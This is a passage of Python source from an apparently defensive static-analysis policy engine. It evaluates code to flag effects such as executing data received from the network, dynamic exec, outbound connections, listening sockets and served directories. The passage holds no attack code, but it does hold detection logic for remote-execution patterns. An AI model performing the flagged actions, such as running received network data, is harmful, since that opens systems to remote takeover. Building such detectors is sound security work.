    def argv(self, dotted: str, words: list) -> None:
        if not words:
            return
        if any(w is _RECV for w in words):
            self.add("run_received", _short(dotted))
            return
        out = []
        for w in words[:32]:
            if isinstance(w, bytes):
                w = w.decode("utf-8", "replace")
            if isinstance(w, PathV | Mod):
                w = str(w) if isinstance(w, PathV) else MARK
            out.append(w if type(w) is str else (str(w) if type(w) in (int, float) else MARK))
        if not out[0] or out[0] == MARK:
            self.add("run_dynamic", _short(dotted))
            return
        self.add("argv", out)

    def pycode(self, node, depth: int) -> None:
        if node is None:
            return
        for v in self.ev(node)[:2]:
            if isinstance(v, bytes):
                v = v.decode("utf-8", "replace")
            if isinstance(v, str) and not isinstance(v, Mod) and MARK not in v:
                if depth < MAX_EXEC_DEPTH and self.read_text(v, depth + 1):
                    pass
                else:
                    from core.policy._pycode import scan_linear

                    for e in scan_linear(v, "python")[:MAX_EFFECTS]:
                        self.add(*e)
                if self.lang is None:
                    self.add("shell", str(v))  # Ruby's and Perl's exec run commands
            elif v is _RECV:
                self.add("run_received", "exec")
            else:
                self.add("run_dynamic", "exec")

    def address(self, node):
        """``(host, port)`` -> "host:port" (or the host, ":port", None)."""
        if node is None:
            return None
        v = self.first(node)
        if type(v) in (list, tuple) and v:
            host = v[0] if type(v[0]) is str else None
            port = v[1] if len(v) > 1 and type(v[1]) in (int, str) else None
            return _addr(host, port)
        if type(v) is str:
            return v or None
        return None

    def host(self, node, port_node):
        v = self.first(node) if node is not None else None
        port = self.first(port_node) if port_node is not None else None
        if type(v) in (list, tuple):
            return self.address(node)
        if type(v) is int and type(port) is str:  # net.connect(4444, "h")
            v, port = port, v
        if type(v) is str and "://" in v:
            v = v.split("://", 1)[1].split("/", 1)[0].rsplit("@", 1)[-1]
        return _addr(v if type(v) is str else None, port if type(port) in (int, str) else None)

    def web(self, node, port_node) -> str:
        """A web client's destination: "SCHEME://HOST[:PORT]" ("https://…" when the URL is not literal)."""
        v = self.first(node) if node is not None else None
        scheme = "https"
        if type(v) is str and "://" in v:
            scheme = v.split("://", 1)[0][:8] or "https"
        host = self.host(node, port_node) if node is not None else None
        return f"{scheme}://{host}" if host and host != MARK else f"{scheme}://…"

    def listen(self, addr) -> None:
        self.listens = True
        self.add("listen", addr)

    def serves(self, node: ast.Call) -> None:
        for k in node.keywords:
            if k.arg == "directory":
                for p in self.strs(k.value):
                    self.add("serve", p)


# ------------------------------------------------------------------------------------ value helpers
def _canon(name: str) -> str:
    head, _, rest = name.partition(".")
    if head in _MODULE_ALIASES:
        alias = _MODULE_ALIASES[head]
        return (alias + "." + rest if alias and rest else alias or rest) or name
    return name


def _attr(b, name: str):
    if isinstance(b, Mod):
        return Mod(_canon(b + "." + name))
    if b is _RECV:
        return Meth(_RECV, name)
    if isinstance(b, Sock | PathV) or isinstance(b, str | bytes):
        return Meth(b, name)
    return Meth(_U, name)


def _load(target: ast.AST) -> ast.AST:
    if type(target) is ast.Name:
        return ast.Name(target.id, ast.Load())
    return ast.Constant(None)


def _opaque(v) -> bool:
    return isinstance(v, Sock | Recv | FD | Meth | _Unknown)


def _cands(vals: list) -> list:
    out: list = []
    for v in vals:
        if len(out) >= MAX_CAND:
            break
        if _opaque(v) or not any(type(v) is type(o) and v == o for o in out if not _opaque(o)):
            out.append(v)
    return out or [_U]


def _text(v) -> str:
    """A value as f-string text: literals as Python shows them, anything else the unknown mark."""
    if isinstance(v, Mod):
        return MARK
    if isinstance(v, str):
        return v
    if type(v) in (int, float, bool):
        return str(v)
    return MARK


def _binop(op, a, b):
    if a is _RECV or b is _RECV:
        return _RECV
    if op is ast.Add:
        if isinstance(a, str) and isinstance(b, str) and not isinstance(a, Mod) and not isinstance(b, Mod):
            return (a + b)[:MAX_STR]
        if isinstance(a, bytes) and isinstance(b, bytes):
            return (a + b)[:MAX_STR]
        if type(a) in (list, tuple) and type(a) is type(b):
            return a + b if len(a) + len(b) <= 256 else _U
        if type(a) is int and type(b) is int and abs(a) < 1 << 64 and abs(b) < 1 << 64:
            return a + b
        if isinstance(a, str) and not isinstance(a, Mod):
            return (a + MARK)[:MAX_STR]
        if isinstance(b, str) and not isinstance(b, Mod):
            return (MARK + b)[:MAX_STR]
        return _U
    if op is ast.Mult:
        if isinstance(a, int) and isinstance(b, str | bytes | list):
            a, b = b, a
        if isinstance(a, str | bytes | list) and type(b) is int and 0 <= b and len(a) * b <= MAX_STR:
            return a * b
        if type(a) is int and type(b) is int and abs(a) < 1 << 32 and abs(b) < 1 << 32:
            return a * b
        return _U
    if op is ast.Mod and isinstance(a, str) and not isinstance(a, Mod):
        vals = list(b) if type(b) is tuple else [b]
        return _percent(a, vals)
    if op is ast.Div and isinstance(a, PathV):
        return _join(a, b)
    return _U


def _percent(fmt: str, vals: list) -> str:
    """``"%s" % x`` for ``%s``/``%d``/``%r``/``%i`` (no widths: ``"%09999999d"`` must not allocate)."""
    out = []
    i = 0
    n = len(fmt)
    k = 0
    while i < n and len(out) < 512:
        j = fmt.find("%", i)
        if j < 0 or j + 1 >= n:
            out.append(fmt[i:])
            break
        out.append(fmt[i:j])
        c = fmt[j + 1]
        if c == "%":
            out.append("%")
        elif c in "sdirxf":
            out.append(_text(vals[k]) if k < len(vals) else MARK)
            k += 1
        else:
            out.append(MARK)
            k += 1
        i = j + 2
    return "".join(out)[:MAX_STR]


def _str_method(b, name: str, vals: list, node: ast.Call, r: _Reader, d: int):
    if isinstance(b, Mod):
        return _U
    try:
        if name == "join" and vals and type(vals[0]) in (list, tuple):
            items = vals[0]
            if len(items) <= 256:
                if isinstance(b, bytes):
                    return b.join(x if isinstance(x, bytes) else b"\x00" for x in items)[:MAX_STR]
                return b.join(x if isinstance(x, str) and not isinstance(x, Mod) else
                              (str(x) if type(x) in (int, float) else MARK) for x in items)[:MAX_STR]
            return _U
        if name == "format" and isinstance(b, str):
            kw = {k.arg: _text(r.ev(k.value, d + 1)[0]) for k in node.keywords if k.arg}
            pos = [_text(v) for v in vals]
            return _format(b, pos, kw)
        if name in ("strip", "lstrip", "rstrip", "lower", "upper", "title", "capitalize", "casefold",
                    "swapcase", "expandtabs") and not vals:
            return getattr(b, name)()
        if name in ("strip", "lstrip", "rstrip") and len(vals) == 1 and type(vals[0]) is type(b):
            return getattr(b, name)(vals[0])
        if name == "replace" and len(vals) >= 2 and all(type(v) is type(b) for v in vals[:2]):
            a, c = vals[0], vals[1]
            if a and len(b) // len(a) * len(c) + len(b) > MAX_STR:
                return _U
            return b.replace(a, c)[:MAX_STR]
        if name == "decode" and isinstance(b, bytes):
            return b.decode("utf-8", "replace")
        if name == "encode" and isinstance(b, str):
            return b.encode("utf-8", "surrogatepass")
        if name == "split" and isinstance(b, str):
            sep = vals[0] if vals and type(vals[0]) is str and vals[0] else None
            return b.split(sep)[:64]
    except (ValueError, TypeError, UnicodeError):
        return _U
    return _U


def _format(fmt: str, pos: list, kw: dict) -> str:
    """``"{} {x}".format(…)`` without format specs or attribute access."""
    out = []
    i = 0
    n = len(fmt)
    k = 0
    while i < n and len(out) < 512:
        j = fmt.find("{", i)
        if j < 0:
            out.append(fmt[i:])
            break
        out.append(fmt[i:j])
        if fmt.startswith("{{", j):
            out.append("{")
            i = j + 2
            continue
        e = fmt.find("}", j)
        if e < 0:
            out.append(fmt[j:])
            break
        field = fmt[j + 1:e].split(":", 1)[0].split("!", 1)[0]
        if field == "":
            out.append(pos[k] if k < len(pos) else MARK)
            k += 1
        elif field.isdigit():
            x = int(field)
            out.append(pos[x] if x < len(pos) else MARK)
        else:
            out.append(kw.get(field, MARK))
        i = e + 1
    return "".join(out).replace("}}", "}")[:MAX_STR]


def _join(base, *parts):
    cur = str(base)
    for p in parts:
        if isinstance(p, Mod) or not isinstance(p, str):
            p = MARK
        if p.startswith("/"):
            cur = p
        elif not cur:
            cur = p
        else:
            cur = cur.rstrip("/") + "/" + p
    return PathV(cur[:MAX_STR]) if isinstance(base, PathV) else cur[:MAX_STR]


def _env_value(k):
    if k == "HOME":
        return "~"
    if k == "USERPROFILE":
        return "~"
    return MARK if type(k) is str else _U


def _writes(mode) -> bool:
    return isinstance(mode, str) and len(mode) <= 4 and any(c in mode for c in "wax+")


def _addr(host, port) -> str | None:
    if isinstance(host, Mod):
        host = None
    if host is not None:
        host = str(host).replace(MARK, "…")[:80]
    if port is not None and not isinstance(port, Mod):
        port = str(port).replace(MARK, "…")[:8]
    else:
        port = None
    if host and port:
        return f"{host}:{port}"
    if host == "" and port:
        return f"0.0.0.0:{port}"  # bind(("", port)): every address
    if host:
        return host
    if port:
        return f"port {port}"
    return None


def _short(dotted: str) -> str:
    return dotted[-40:]
